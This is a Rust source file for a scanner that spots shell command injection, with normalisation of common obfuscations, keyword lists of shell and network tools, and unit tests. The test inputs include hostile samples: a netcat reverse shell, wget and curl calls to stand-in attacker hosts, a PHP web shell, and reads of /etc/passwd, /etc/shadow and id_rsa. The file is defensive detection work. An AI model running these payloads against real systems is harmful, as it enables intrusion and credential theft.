//! Shell command injection, and code that runs a command.
//!
//! # Grammar
//!
//! The value is first normalised the way a shell would see through common
//! obfuscation: quotes and backslashes inside words are dropped (`c'a't`, `c\at`;
//! backslashes stay in a value with a Windows path, `C:\...`), so are cmd.exe's
//! carets between letters (`m^sh^ta`), `$IFS`, `${IFS}`, `${IFS%??}` and `$IFS$9`
//! become a space, `$@` and `$*` are dropped, so is a `${x}` inside a word (an
//! empty expansion), and a brace list `{cat,/etc/passwd}` reads as `;cat
//! /etc/passwd`. Then an injection is:
//!
//! ```text
//! injection  := position command argument
//! position   := value-start | separator | substitution
//! separator  := (";" | "|" | "&" | newline) ("|" | "&")*   (then white space, "(", "{")
//! substitution := "`" | "$(" | "<(" | ">("
//! command    := [path] word            path: a directory whose name holds "bin" or
//!                                      "system32", "./" or one starting with "%";
//!                                      or a glob path such as /???/c?t
//! argument   := end | shape
//! shape      := ws* (";" | "|" | "&" | "`" | ")" | "#" | ">" | "<")
//!             | ws+ ( "-"(letter | "-") | "/"path | "./" | "~/" | "\\" | "$" | quote
//!                   | drive ":\" | subcommand (net user, reg query, ps aux, ...)
//!                   | digit or host (sleep, ping, timeout, nslookup, nc, ...) )
//! ```
//!
//! - Commands come in two lists: *distinct* ones that prose does not use
//!   (`whoami`, `uname`, `wget`, `powershell`, `certutil`, ...) and *common* ones
//!   that are also words or too short to tell (`id`, `cat`, `ls`, `sleep`, `ping`,
//!   `echo`, `type`, `dir`, ...).
//! - After a separator, a distinct command (or a glob path) is enough; a common one
//!   needs an argument shape (so `Tom & Jerry` and `A; id is wrong` pass, `; id`
//!   and `| cat /etc/passwd` do not). Inside a substitution, any command word is
//!   enough (`` `id` ``, `$(whoami)`).
//! - At the start of the value, any command needs an argument shape (`cat
//!   /etc/passwd`, `ls -la`), never a plain word (`zsh is the best!`).
//! - In text (a value that reads like prose, holds a Markdown fence, or is longer
//!   than 64 bytes with five spaces or more), only the first 64 bytes can hold a
//!   separator position, a line break is not a separator, closed Markdown code
//!   fences are skipped, and backticks are Markdown, not substitution: a forum
//!   post that quotes a shell command is not an injection.
//! - An ampersand glued between letters and digits is part of a name (`AT&T`,
//!   `R&D`), not a separator after a command word.
//! - *Exec calls*: a function that runs commands (`system(`, `exec(`,
//!   `shell_exec(`, `passthru(`, `popen(`, `proc_open(`, `os.system(`,
//!   `subprocess.`, `Runtime.getRuntime().exec(`, `child_process`, `IO.popen(`,
//!   PowerShell's `Invoke-Expression`/`IEX(`) whose argument starts with a command
//!   or with `$_`/`request` (`child_process` needs no argument);
//!   and a PHP open tag (`<?php`, `<?=`) whose next 64 bytes reach for commands,
//!   code, the request or files (`system`, `eval`, `phpinfo`, `$_GET`, backticks,
//!   ...: `PHP_REACH`).
//!
//! Beyond a POSIX command line, [`extra`] finds PowerShell cmdlets and .NET calls,
//! cmd.exe's `call %name%` and `%ComSpec%`, commands built from variables (`$a$b`),
//! and options that make a program run a command (`--checkpoint-action=`,
//! `-oProxyCommand=`, `--upload-pack=`, ...).
//!
//! Linear: the normalisation is one pass; every position is tried once and each try
//! reads a bounded word plus a bounded argument.

mod extra;

use crate::text::{Words, find_ci, is_space, prose_like, starts_with_ci};
use crate::{Class, Finding};
use std::sync::LazyLock;

/// Commands that prose does not use as words.
pub(crate) const DISTINCT: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "nslookup",
    "wget",
    "curl",
    "ncat",
    "netcat",
    "telnet",
    "bash",
    "ksh",
    "tcsh",
    "csh",
    "dash",
    "powershell",
    "pwsh",
    "cmd.exe",
    "powershell.exe",
    "certutil",
    "bitsadmin",
    "wmic",
    "regsvr32",
    "rundll32",
    "mshta",
    "cscript",
    "wscript",
    "python2",
    "python3",
    "perl",
    "php",
    "nmap",
    "chmod",
    "chown",
    "useradd",
    "crontab",
    "systemctl",
    "xxd",
    "tftp",
    "socat",
    "systeminfo",
    "tasklist",
    "taskkill",
    "hostname",
    "sudo",
    "base64",
    "busybox",
    "getent",
    "iex",
    "invoke-expression",
    "invoke-webrequest",
    "iwr",
    "start-process",
    "new-object",
    "get-content",
    "nohup",
    "setsid",
    "mkfifo",
    "msfvenom",
    "wget.exe",
    "curl.exe",
    "net.exe",
    "net1",
    "sh.exe",
    "bash.exe",
    "uname.exe",
];

/// Commands that are also ordinary words, or too short to tell apart.
pub(crate) const COMMON: &[&str] = &[
    "id",
    "ls",
    "cat",
    "more",
    "less",
    "head",
    "tail",
    "echo",
    "type",
    "dir",
    "set",
    "env",
    "sleep",
    "ping",
    "ps",
    "kill",
    "find",
    "sort",
    "time",
    "date",
    "sh",
    "zsh",
    "nc",
    "cmd",
    "net",
    "python",
    "node",
    "ruby",
    "lua",
    "awk",
    "sed",
    "rm",
    "cp",
    "mv",
    "touch",
    "mkdir",
    "eval",
    "exec",
    "printf",
    "who",
    "last",
    "ftp",
    "ssh",
    "scp",
    "dig",
    "host",
    "su",
    "tee",
    "xargs",
    "reg",
    "timeout",
    "grep",
    "tac",
    "nl",
    "od",
    "strings",
    "uniq",
    "wc",
    "cut",
    "whoami",
    "expr",
    "pwd",
    "unset",
    "export",
    "source",
    "tar",
    "zip",
    "unzip",
    "gzip",
    "start",
    "call",
    "copy",
    "del",
    "ver",
    "vol",
    "systeminfo",
    "net",
    "at",
    "sc",
];

/// Commands whose usual argument is a number or a host.
const TAKES_NUMBER_OR_HOST: &[&str] = &[
    "sleep", "ping", "timeout", "nslookup", "dig", "host", "nc", "ncat", "netcat", "telnet", "ssh",
    "ftp", "tftp", "curl", "wget", "kill",
];

/// Functions that run a command given as a string.
const EXEC_CALLS: &[&str] = &[
    "system(",
    "exec(",
    "shell_exec(",
    "passthru(",
    "popen(",
    "proc_open(",
    "pcntl_exec(",
    "os.system(",
    "os.popen(",
    "subprocess.call(",
    "subprocess.run(",
    "subprocess.popen(",
    "subprocess.check_output(",
    "getruntime().exec(",
    "processbuilder(",
    "child_process",
    "io.popen(",
    "%x(",
    "invoke-expression",
    "iex(",
    "spawn(",
    "execsync(",
];

/// In text, how far from the start a command position may be.
const TEXT_START: usize = 64;

/// Subcommands that make a common command's argument shape (`net user`).
const SUBCOMMANDS: &[(&str, &[&str])] = &[
    (
        "net",
        &[
            "user",
            "localgroup",
            "group",
            "view",
            "use",
            "share",
            "session",
            "accounts",
            "start",
            "stop",
        ],
    ),
    ("reg", &["query", "add", "delete", "export", "save"]),
    ("sc", &["query", "create", "start", "stop", "config"]),
    ("ps", &["aux", "ax", "ef", "-ef"]),
    (
        "ip",
        &["a", "addr", "address", "route", "r", "link", "neigh"],
    ),
    ("echo", &["$path", "%path%", "%username%", "%computername%"]),
];

/// Longest command word read (paths included).
const MAX_WORD: usize = 64;

/// A necessary condition for [`scan`], cheap to check: without it `scan` finds
/// nothing (it checks it first), so a value that fails it need not be scanned.
pub(crate) fn may_match(input: &[u8]) -> bool {
    if input.iter().any(|c| {
        matches!(
            c,
            b';' | b'|'
                | b'&'
                | b'\n'
                | b'\r'
                | b'`'
                | b'$'
                | b'<'
                | b'>'
                | b'('
                | b')'
                | b'{'
                | b'}'
                | b'\''
                | b'"'
                | b'\\'
                | b'?'
                | b'*'
        )
    }) {
        return true;
    }
    static EXTRA_WORDS: LazyLock<Words> = LazyLock::new(|| {
        let w: Vec<&str> = extra::words().collect();
        Words::new(&w)
    });
    EXTRA_WORDS.any(input) || may_start_with_command(input)
}

/// The words of [`may_match`] besides shell punctuation (PowerShell cmdlets, .NET
/// calls, options that run commands), for the candidates pass's automaton.
pub(crate) fn trigger_words() -> impl Iterator<Item = &'static str> {
    extra::words()
}

/// [`may_match`] without its words: whether the value starts with a command word.
pub(crate) fn may_start_with_command(input: &[u8]) -> bool {
    // Otherwise only a command at the start can be one: its base name must be a
    // command word.
    let start = input
        .iter()
        .position(|c| !is_space(*c))
        .unwrap_or(input.len());
    command_word(input, start).is_some_and(|(w, _, glob)| {
        glob || crate::text::one_of(w, DISTINCT) || crate::text::one_of(w, COMMON)
    })
}

/// Scans `input` for a command injection.
pub fn scan(input: &[u8]) -> Option<Finding> {
    if !may_match(input) {
        return None;
    }
    // Only quotes, backslashes, `$` and braces are rewritten: without them the value
    // is its own normalisation (most values, and no copy).
    let rewrites = input
        .iter()
        .any(|c| matches!(c, b'\'' | b'"' | b'\\' | b'$' | b'{' | b'^'));
    let norm;
    let s = if rewrites {
        norm = normalise(input);
        &norm[..]
    } else {
        input
    };
    // Text: several words, or Markdown with a code fence. Code quoted in text is not
    // an injection: only the first bytes hold command positions there, and
    // backticks are Markdown.
    let prose = prose_like(s)
        || memchr::memmem::find(s, b"```").is_some()
        || (s.len() > TEXT_START && s.iter().filter(|&&c| c == b' ').count() >= 5);
    if let Some(f) = exec_call(s) {
        return Some(f);
    }
    if let Some((rule, at)) = extra::scan(s, prose) {
        return Some(Finding::new(Class::Cmd, rule, at..s.len().min(at + 32)));
    }
    // The value's start (after white space, quotes and grouping).
    let mut start = 0;
    while start < s.len() && (is_space(s[start]) || matches!(s[start], b'(' | b'{' | b'\'' | b'"'))
    {
        start += 1;
    }
    if let Some(f) = command_at(s, start, Position::Start) {
        return Some(f);
    }
    // Markdown code fences in prose: what they quote is code shown, not a command
    // line. Only closed ones: an unclosed fence would hide the rest of the value.
    let mut fences: Vec<(usize, usize)> = Vec::new();
    let mut from = 0;
    while prose && let Some(open) = memchr::memmem::find(&s[from..], b"```") {
        let open = from + open;
        let Some(c) = memchr::memmem::find(&s[open + 3..], b"```") else {
            break;
        };
        let close = open + 3 + c + 3;
        fences.push((open, close));
        from = close;
    }
    let first_line_end = memchr::memchr2(b'\n', b'\r', s).unwrap_or(s.len());
    // Positions only grow: one cursor over the (sorted) fences keeps this linear.
    let mut fence = 0;
    let mut i = 0;
    while i < s.len() {
        let b = s[i];
        while fence < fences.len() && fences[fence].1 <= i {
            fence += 1;
        }
        if fences.get(fence).is_some_and(|&(a, _)| a <= i) {
            i = fences[fence].1;
            continue;
        }
        let (pos, next) = match b {
            // In prose a line break ends a line of text, not a command.
            b'\n' | b'\r' if prose => {
                i += 1;
                continue;
            }
            b';' | b'|' | b'&' | b'\n' | b'\r' => {
                let mut j = i + 1;
                while j < s.len() && matches!(s[j], b'|' | b'&') {
                    j += 1;
                }
                (Position::Separator, j)
            }
            b'`' if !prose => (Position::Substitution, i + 1),
            b'`' => {
                i += 1;
                continue;
            }
            b'$' | b'<' | b'>' if s.get(i + 1) == Some(&b'(') => (Position::Substitution, i + 2),
            _ => {
                i += 1;
                continue;
            }
        };
        // In text, the first line's first bytes: a command line on a later line is
        // a quoted snippet (an indented Markdown code block).
        if prose && (i > TEXT_START.min(first_line_end)) {
            i = next;
            continue;
        }
        let mut at = next;
        while at < s.len() && (is_space(s[at]) || matches!(s[at], b'(' | b'{')) {
            at += 1;
        }
        if let Some(f) = command_at(s, at, pos) {
            return Some(f);
        }
        // The bytes skipped (white space, line breaks, `(`, `{`) lead to the same
        // command position: each is looked at once.
        i = next.max(at);
    }
    None
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Position {
    Start,
    Separator,
    Substitution,
}

/// A command word at `at` in a command position, with the argument it needs.
fn command_at(s: &[u8], at: usize, pos: Position) -> Option<Finding> {
    if at >= s.len() {
        return None;
    }
    let (word, end, glob) = command_word(s, at)?;
    // The word must end where a shell word ends (`base64,` in a data URL does not).
    if s.get(end).is_some_and(|c| {
        !(is_space(*c)
            || matches!(
                c,
                b';' | b'|' | b'&' | b'`' | b')' | b'<' | b'>' | b'$' | b'\'' | b'"' | b'#' | b'}'
            ))
    }) {
        return None;
    }
    // `&who;` is an HTML or XML character reference, not a separator and a command.
    if at > 0 && s[at - 1] == b'&' && s.get(end) == Some(&b';') {
        return None;
    }
    let distinct = crate::text::one_of(word, DISTINCT);
    let common = crate::text::one_of(word, COMMON);
    if !(distinct || common || glob) {
        return None;
    }
    let shaped = argument_shape(s, end, word);
    // At the start, the word alone is not a command line: `sort`, `id`, `curl`.
    let bare = s[end..].iter().all(|&c| is_space(c));
    let hit = match pos {
        Position::Start => shaped && !bare,
        Position::Separator => distinct || glob || shaped,
        Position::Substitution => true,
    };
    if !hit {
        return None;
    }
    let rule = match pos {
        Position::Start => "command with shell arguments at the start",
        Position::Separator => "separator then command",
        Position::Substitution => "command substitution",
    };
    Some(Finding::new(Class::Cmd, rule, at..end))
}

/// The command word at `at`: its base name (path stripped), where it ends, and
/// whether it was a glob path (`/???/c?t`).
fn command_word(s: &[u8], at: usize) -> Option<(&[u8], usize, bool)> {
    let mut end = at;
    while end < s.len()
        && end - at < MAX_WORD
        && (s[end].is_ascii_alphanumeric()
            || matches!(
                s[end],
                b'/' | b'\\' | b'.' | b'-' | b'_' | b':' | b'?' | b'*' | b'%'
            ))
    {
        end += 1;
    }
    if end == at {
        return None;
    }
    let token = &s[at..end];
    let base_from = token
        .iter()
        .rposition(|&c| c == b'/' || c == b'\\')
        .map_or(0, |p| p + 1);
    let base = &token[base_from..];
    let pathy = base_from > 0;
    let glob = pathy
        && token[0] == b'/'
        && token.iter().any(|&c| c == b'?' || c == b'*')
        && token.iter().filter(|&&c| c == b'/').count() >= 2;
    if base.is_empty() && !glob {
        return None;
    }
    // A path prefix must look like a binary directory, not just any path.
    if pathy && !glob {
        let dir = &token[..base_from];
        let bin_dir = find_ci(dir, 0, b"bin").is_some()
            || find_ci(dir, 0, b"system32").is_some()
            || dir == b"./"
            || dir.starts_with(b"%");
        if !bin_dir {
            return None;
        }
    }
    Some((base, end, glob))
}

/// Whether what follows a command word at `end` has the shape of shell arguments.
fn argument_shape(s: &[u8], end: usize, word: &[u8]) -> bool {
    let rest = &s[end..];
    // The end of the value, or another separator or closing.
    let first_non_space = rest.iter().position(|&c| !is_space(c));
    let Some(k) = first_non_space else {
        return true;
    };
    let c = rest[k];
    // `AT&T`, `R&D`: an ampersand between letters is part of a name.
    if k == 0 && c == b'&' && rest.get(1).is_some_and(|c| c.is_ascii_alphanumeric()) {
        return false;
    }
    if matches!(c, b';' | b'|' | b'&' | b'`' | b')' | b'#' | b'>' | b'<') {
        return true;
    }
    if k == 0 {
        // Glued to the word: `cat$IFS` was normalised; `id;` handled above.
        return false;
    }
    let after = &rest[k..];
    let next_word = &after[..after
        .iter()
        .position(|c| !(c.is_ascii_alphanumeric() || *c == b'%' || *c == b'$' || *c == b'-'))
        .unwrap_or(after.len())];
    if SUBCOMMANDS.iter().any(|(cmd, subs)| {
        word.eq_ignore_ascii_case(cmd.as_bytes()) && crate::text::one_of(next_word, subs)
    }) {
        return true;
    }
    match c {
        b'-' => after
            .get(1)
            .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'-'),
        // A path, or the root directory alone, last or before an option (`find /
        // -perm -4000`; `find / replace` is prose).
        b'/' => match after.get(1) {
            None => true,
            Some(c) if is_space(*c) => {
                let o = crate::text::skip_space(after, 1);
                after.get(o) == Some(&b'-')
                    && after.get(o + 1).is_some_and(|c| c.is_ascii_alphabetic())
            }
            Some(c) => c.is_ascii_alphanumeric() || *c == b'?',
        },
        // A path, or the current directory before an option (`find . -exec`).
        b'.' | b'~' => {
            after.get(1) == Some(&b'/')
                || (c == b'.'
                    && after.get(1).is_some_and(|c| is_space(*c))
                    && after.get(crate::text::skip_space(after, 1)) == Some(&b'-'))
        }
        b'\\' => true,
        b'$' => true,
        b'\'' | b'"' => true,
        b'0'..=b'9' => crate::text::one_of(word, TAKES_NUMBER_OR_HOST),
        _ if crate::text::one_of(word, TAKES_NUMBER_OR_HOST) => {
            // A host name: letters and digits with a dot, no spaces before it.
            let host_end = after
                .iter()
                .position(|&c| !(c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-')))
                .unwrap_or(after.len());
            let host = &after[..host_end];
            host.contains(&b'.') && host.len() > 3 && host.last() != Some(&b'.')
        }
        // `cmd /c`, `type C:\...`, `dir C:`.
        b'A'..=b'Z' | b'a'..=b'z' => {
            after.get(1) == Some(&b':') && after.get(2).is_some_and(|c| *c == b'\\' || *c == b'/')
        }
        _ => false,
    }
}

/// What PHP code injected to run needs: a function that runs commands or code, or
/// reads the request or files.
const PHP_REACH: &[&str] = &[
    "system",
    "exec",
    "shell_exec",
    "passthru",
    "popen",
    "proc_open",
    "pcntl_exec",
    "eval",
    "assert",
    "phpinfo",
    "base64_decode",
    "file_put_contents",
    "file_get_contents",
    "fopen",
    "fwrite",
    "include",
    "require",
    "$_get",
    "$_post",
    "$_request",
    "$_cookie",
    "$_server",
    "$_files",
    "create_function",
    "call_user_func",
    "preg_replace",
    "`",
];

/// A function that runs a command, called with a command; or a PHP open tag whose
/// next 64 bytes reach for commands, code, the request or files (`<?php
/// system($_GET[1]); ?>`; a forum post's `<?php echo htmlspecialchars(...)` does
/// not).
fn exec_call(s: &[u8]) -> Option<Finding> {
    static PHP_WORDS: LazyLock<Words> = LazyLock::new(|| Words::new(PHP_REACH));
    for tag in [&b"<?php"[..], b"<?="] {
        if let Some(at) = find_ci(s, 0, tag) {
            let code = &s[at + tag.len()..(at + tag.len() + 64).min(s.len())];
            if PHP_WORDS.any(code) {
                return Some(Finding::new(Class::Cmd, "PHP code", at..at + tag.len()));
            }
        }
    }
    static CALL_WORDS: LazyLock<Words> = LazyLock::new(|| Words::new(EXEC_CALLS));
    for (c, at, _) in CALL_WORDS.find_all(s) {
        let call = EXEC_CALLS[c];
        {
            // A method of something else (`myexec(`) is not the call.
            if at > 0
                && (s[at - 1].is_ascii_alphanumeric() || s[at - 1] == b'_')
                && !call.contains('.')
            {
                continue;
            }
            let mut k = at + call.len();
            while k < s.len() && (is_space(s[k]) || matches!(s[k], b'\'' | b'"' | b'[' | b'(')) {
                k += 1;
            }
            let arg_is_command = command_word(s, k).is_some_and(|(w, _, glob)| {
                glob || crate::text::one_of(w, DISTINCT) || crate::text::one_of(w, COMMON)
            });
            // `$_GET[...]`, `request.args`: the command comes from the request.
            let from_request = starts_with_ci(s, k, b"$_") || starts_with_ci(s, k, b"request");
            if arg_is_command || from_request || call.ends_with("child_process") {
                return Some(Finding::new(Class::Cmd, "exec call with a command", at..k));
            }
        }
    }
    None
}

/// The value with shell quoting and obfuscation removed (see the module
/// documentation); at most as long as the input, plus spaces for brace lists.
fn normalise(input: &[u8]) -> Vec<u8> {
    // A Windows path (`C:\Windows\System32\cmd.exe`) keeps its backslashes: they
    // separate directories there, they do not escape letters.
    let windows_path = memchr::memmem::find(input, b":\\").is_some();
    let mut out = Vec::with_capacity(input.len());
    let mut i = 0;
    while i < input.len() {
        let b = input[i];
        match b {
            // cmd.exe's escape between letters: `m^sh^ta`, `p^ow^ershell`.
            b'^' if i > 0
                && input[i - 1].is_ascii_alphanumeric()
                && input.get(i + 1).is_some_and(u8::is_ascii_alphanumeric) =>
            {
                i += 1;
            }
            // Quotes glued between word bytes, and backslashes before a letter.
            b'\'' | b'"'
                if i > 0
                    && input[i - 1].is_ascii_alphanumeric()
                    && input.get(i + 1).is_some_and(|c| {
                        c.is_ascii_alphanumeric() || *c == b'\'' || *c == b'"'
                    }) =>
            {
                i += 1;
            }
            b'\\'
                if !windows_path
                    && input.get(i + 1).is_some_and(|c| c.is_ascii_lowercase())
                    && i > 0
                    && input[i - 1].is_ascii_alphanumeric() =>
            {
                i += 1;
            }
            b'$' => {
                if starts_with_ci(input, i, b"${ifs}") {
                    out.push(b' ');
                    i += 6;
                } else if starts_with_ci(input, i, b"${ifs")
                    && let Some(close) = input[i + 5..].iter().take(16).position(|&c| c == b'}')
                {
                    // `${IFS%??}`, `${IFS:0:1}`: a part of IFS, white space all the same.
                    out.push(b' ');
                    i += 5 + close + 1;
                } else if starts_with_ci(input, i, b"$ifs") {
                    out.push(b' ');
                    i += 4;
                    if input.get(i) == Some(&b'$')
                        && input.get(i + 1).is_some_and(u8::is_ascii_digit)
                    {
                        i += 2;
                    }
                } else if matches!(input.get(i + 1), Some(b'@' | b'*')) {
                    i += 2;
                } else if input.get(i + 1) == Some(&b'{')
                    && let Some(close) = input[i + 2..].iter().take(16).position(|&c| c == b'}')
                    && input[i + 2..i + 2 + close]
                        .iter()
                        .all(|c| c.is_ascii_alphanumeric() || *c == b'_')
                    && close > 0
                    && !input[i + 2..i + 2 + close].eq_ignore_ascii_case(b"ifs")
                {
                    // `${x}` in the middle of a word expands to nothing when unset.
                    if i > 0 && input[i - 1].is_ascii_alphanumeric() {
                        i += 3 + close;
                    } else {
                        out.push(b);
                        i += 1;
                    }
                } else {
                    out.push(b);
                    i += 1;
                }
            }
            b'{' if input.get(i + 1).is_some_and(u8::is_ascii_alphabetic) => {
                // A brace list `{cat,/etc/passwd}`: a command position.
                let close = input[i + 1..].iter().take(256).position(|&c| c == b'}');
                let list = close.map(|c| &input[i + 1..i + 1 + c]);
                if let Some(list) = list.filter(|l| l.contains(&b',') && !l.contains(&b' ')) {
                    out.push(b';');
                    out.extend(list.iter().map(|&c| if c == b',' { b' ' } else { c }));
                    i += 2 + list.len();
                } else {
                    out.push(b);
                    i += 1;
                }
            }
            _ => {
                out.push(b);
                i += 1;
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(s: &str) -> bool {
        scan(s.as_bytes()).is_some()
    }

    #[test]
    fn injections() {
        for s in [
            ";cat /etc/passwd",
            "127.0.0.1; id",
            "127.0.0.1 && whoami",
            "x|id",
            "a || ls -la",
            "`id`",
            "$(whoami)",
            "foo$(cat /etc/shadow)",
            "; sleep 5",
            "|ping -c 3 attacker.example",
            "cat /etc/passwd",
            "ls -la /",
            "& dir C:\\",
            "| type C:\\windows\\win.ini",
            "cmd /c whoami",
            ";/bin/cat /etc/passwd",
            ";/???/c?t /???/p??s??",
            ";c'a't /etc/passwd",
            ";c\\at /etc/passwd",
            ";cat${IFS}/etc/passwd",
            ";cat$IFS$9/etc/passwd",
            ";{cat,/etc/passwd}",
            "\nwhoami",
            "x;nc -e /bin/sh 10.0.0.1 4444",
            "|wget http://x.example/a.sh",
            "system('cat /etc/passwd')",
            "<?php system($_GET['c']); ?>",
            "__import__('os').system('id')",
            "Runtime.getRuntime().exec(\"whoami\")",
            "require('child_process').exec('id')",
            "; powershell -enc SQBFAFgA",
            "|| curl attacker.example",
            "a;uname -a",
            "127.0.0.1| net user",
            "$(printf 'id')",
            "|find / -perm -4000",
            "<?php phpinfo(); ?>",
            "& C:\\Windows\\System32\\cmd.exe /c whoami",
            "<?= `id` ?>",
            "1```;cat /etc/passwd",
            "file.txt&& find / -name id_rsa",
        ] {
            assert!(hit(s), "missed: {s}");
        }
    }

    #[test]
    fn benign() {
        for s in [
            "Tom & Jerry",
            "AT&T",
            "<r>&who;</r>",
            "AT&T customer service",
            "Smith & Sons Ltd",
            "Q&A session, R&D budget",
            "Is there a cleaner way to run the tests?\n\n    curl -s -H \"Authorization: Bearer $TOKEN\" \"https://api.example.com/v1\" \\\n      | jq -r '.items'",
            "Is there a cleaner way to count rows per country?\n```powershell\nGet-Process | Sort-Object CPU\n```",
            "Can someone review this?\n\n```php\n<?php\nforeach ($rows as $r) {\n    echo htmlspecialchars($r['title']);\n}\n```",
            "zsh is the best!",
            "Is there a cleaner way to retry failed requests?\n\n    ls *.png | xargs -P 4 -I{} convert {} -resize 50% small/{}\n\nWhat am I missing?",
            "Sleep(8 hours)",
            "A; id is wrong",
            "cat videos are great",
            "fish & chips; salt & pepper",
            "I use ls every day",
            "rock & roll | jazz",
            "please type your name",
            "Set the date; then echo it back to me",
            "john+or@var.es",
            "the ping was 30ms",
            "and/or; find / replace is in the edit menu",
            "One more thing: run `ls -la` in your terminal to see hidden files, and the output tells you a lot.",
            "A long forum post that explains how pipes work in the shell, and then at the end mentions that | cat /etc/passwd reads the file.",
            "data:image/png;base64,iVBORw0KGgo=",
            "https://example.com/search?q=a&b=c",
            "O'Brien",
            "the system(s) we use",
            "{\"name\":\"alice\",\"tags\":[\"a\",\"b\"]}",
            "price: $5 (or $(10) in total)",
            "sort",
            "whoami",
            "My backup script:\n```bash\n#!/bin/bash\nfor f in *.log; do\n  gzip \"$f\" && mv \"$f.gz\" /backup/\ndone\n```\nIt works.",
            "I wrote:\n```python\nimport os\nprint(1)\n```\nbut it is slow.",
        ] {
            assert!(!hit(s), "false positive: {s}: {:?}", scan(s.as_bytes()));
        }
    }
}
